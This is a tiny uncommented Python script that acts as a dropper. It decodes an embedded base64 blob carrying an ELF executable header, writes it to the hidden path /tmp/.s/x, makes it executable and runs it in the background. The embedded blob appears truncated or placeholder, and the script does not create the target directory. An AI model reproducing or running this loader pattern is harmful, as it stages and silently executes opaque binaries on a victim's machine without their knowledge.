#!/usr/bin/python3
import base64, os, subprocess
blob = "f0VMRgIBAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
p = "/tmp/.s/x"
open(p, "wb").write(base64.b64decode(blob))
os.chmod(p, 0o755)
subprocess.Popen([p])
